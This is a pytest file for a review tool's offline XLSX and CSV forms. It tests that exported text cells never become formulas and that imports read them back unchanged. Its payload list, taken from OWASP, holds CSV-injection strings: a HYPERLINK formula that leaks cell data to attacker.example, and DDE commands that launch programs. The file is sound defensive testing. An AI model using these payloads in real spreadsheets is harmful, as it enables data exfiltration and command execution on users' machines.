"""Issue 11 item 2, the expert's files: every text cell of the offline form is text, never a formula
(OWASP's CSV-injection payloads), in XLSX and CSV, and reads back as exactly what was written."""
from __future__ import annotations

import csv
import zipfile
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from review_model.plain_text import csv_cell, from_csv_cell
from review_model.sheets import ops
from review_model.sheets.forms import export_form, import_form
from review_model.sheets.view import sheet_view
from tests.support.sheets import a01_reviewer
from tests.support.small_round import make_small_round

# https://owasp.org/www-community/attacks/CSV_Injection, and the prefixes that evade naive filters
PAYLOADS = [
    '=HYPERLINK("http://attacker.example/?leak="&A1,"点击查看")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1\n第二行",
    "'=1+1",  # already apostrophed: must come back with its apostrophe
    "''+1",
    "'普通文字",  # an apostrophe before ordinary text is left alone
]


@pytest.fixture(scope="module")
def round_(tmp_path_factory):
    return make_small_round(tmp_path_factory.mktemp("injection"))


@pytest.fixture
def reviewer(round_, tmp_path):
    with a01_reviewer(round_, tmp_path / "E02") as reviewer:
        yield reviewer


def _fill_with_payloads(reviewer) -> dict[str, str]:
    """One payload per item comment, the opinion and a veto reason; returns item code → payload."""
    rubric = sheet_view(reviewer, "A01").rubric
    codes = [i.code for i in rubric.scored_items][:len(PAYLOADS)]
    for code, payload in zip(codes, PAYLOADS):
        ops.SetItem("A01", code, Decimal(0), payload).apply(reviewer)  # 0 needs a comment: it is kept
    ops.SetOpinion("A01", PAYLOADS[0], "").apply(reviewer)
    ops.SetVeto("A01", "V1", False, PAYLOADS[3]).apply(reviewer)
    return dict(zip(codes, PAYLOADS))


def _lf(text: str) -> str:
    return text.replace("\r", "\n")


def test_xlsx_text_cells_are_strings_never_formulas(reviewer, tmp_path):
    written = _fill_with_payloads(reviewer)
    form = tmp_path / "A01.xlsx"
    export_form(reviewer, "A01", form)
    with zipfile.ZipFile(form) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")  # no formula anywhere in the sheet
    sheet = load_workbook(form).active
    by_code = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
    for code, payload in written.items():
        cell = by_code[code][4]
        assert cell.data_type == "s" and cell.value == _lf(payload), (code, cell.value)
    assert by_code["OPINION"][4].data_type == "s" and by_code["OPINION"][4].value == PAYLOADS[0]
    assert by_code["V1"][4].value == PAYLOADS[3]
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type in ("s", "n"), (cell.coordinate, cell.value)
    import_form(reviewer, "A01", form)  # and back, unchanged (line breaks as Excel keeps them)
    view = sheet_view(reviewer, "A01")
    assert {code: view.comments[code] for code in written} == {code: _lf(p) for code, p in written.items()}


def test_csv_text_cells_are_apostrophed_and_read_back_literally(reviewer, tmp_path):
    written = _fill_with_payloads(reviewer)
    form = tmp_path / "A01.csv"
    export_form(reviewer, "A01", form)
    with open(form, encoding="utf-8-sig", newline="") as handle:
        rows = {row[0]: row for row in csv.reader(handle)}
    for code, payload in written.items():
        cell = rows[code][4]
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (code, cell)  # a spreadsheet shows it as text
        assert cell == csv_cell(payload) and cell in (payload, "'" + payload)
    import_form(reviewer, "A01", form)
    view = sheet_view(reviewer, "A01")
    assert {code: view.comments[code] for code in written} == written
    assert view.opinion == PAYLOADS[0] and view.vetoes["V1"][1] == PAYLOADS[3]


@pytest.mark.parametrize("payload", PAYLOADS + ["plain", "", "-", "=", "'"])
def test_the_csv_prefix_is_undone_exactly(payload):
    assert from_csv_cell(csv_cell(payload)) == payload
